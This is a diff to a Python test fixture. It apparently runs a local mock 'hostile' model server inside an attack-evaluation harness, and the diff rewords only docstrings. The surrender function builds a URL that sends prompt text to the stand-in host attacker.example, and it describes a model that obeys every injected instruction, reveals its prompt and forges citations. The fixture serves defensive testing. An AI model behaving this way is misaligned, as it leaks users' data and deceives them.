@@ -1,7 +1,7 @@
-"""A model that has given in: an OpenAI-compatible server on this machine that writes what attackers want.
+"""A hostile model: a local OpenAI-compatible server that obeys every attack.
 
-It stands behind the same adapter as any served model, so that what is measured is what is left of an attack
-when the model resists nothing.
+It is used through the same adapter as any model server, so the evaluation measures which attacks succeed when
+the model does not resist at all.
 """
 
 from __future__ import annotations
@@ -17,7 +17,7 @@ from pydantic import BaseModel
 HOST = "attacker.example"
 MODEL = "hostile"
 MOST = 1_500
-"""Characters of the prompt that it gives away."""
+"""The number of characters of the prompt that it reveals."""
 
 
 class _Message(BaseModel):
@@ -31,7 +31,7 @@ class _Request(BaseModel):
 
 @contextmanager
 def hostile_server() -> Iterator[str]:
-    """Its base URL, for as long as the context lasts."""
+    """Runs the server while the block runs; yields its base URL."""
     with ThreadingHTTPServer(("127.0.0.1", 0), _Handler) as server:
         thread = threading.Thread(target=server.serve_forever, daemon=True)
         thread.start()
@@ -43,7 +43,7 @@ def hostile_server() -> Iterator[str]:
 
 
 def surrender(prompt: str, system: str) -> list[str]:
-    """The answer in pieces: every instruction obeyed, everything read given away, citations forged."""
+    """The answer in pieces: it obeys every instruction, reveals the prompt, and forges citations."""
     read = " ".join(prompt.split())[:MOST]
     carried = f"https://{HOST}/collect?data={read[:60].replace(' ', '+')}"
     return [
@@ -68,7 +68,7 @@ class _Handler(BaseHTTPRequestHandler):
         self._send("[DONE]")
 
     def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
-        """Quiet: what is asked stays out of the terminal."""
+        """Logs nothing, so that prompts are not printed."""
 
     def _send(self, data: str) -> None:
         self.wfile.write(f"data: {data}\n\n".encode())
